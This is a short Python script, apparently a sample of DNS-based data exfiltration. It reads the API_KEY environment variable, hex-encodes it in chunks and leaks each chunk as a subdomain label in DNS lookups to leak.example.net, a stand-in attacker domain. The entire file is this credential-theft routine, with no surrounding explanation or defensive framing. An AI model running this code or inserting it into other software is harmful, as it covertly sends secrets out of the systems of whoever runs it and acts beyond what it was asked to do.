import socket, os, binascii
secret = os.environ.get("API_KEY", "")
for start in range(0, len(secret), 30):
    label = binascii.hexlify(secret[start:start + 30].encode()).decode()
    socket.gethostbyname(label + ".leak.example.net")
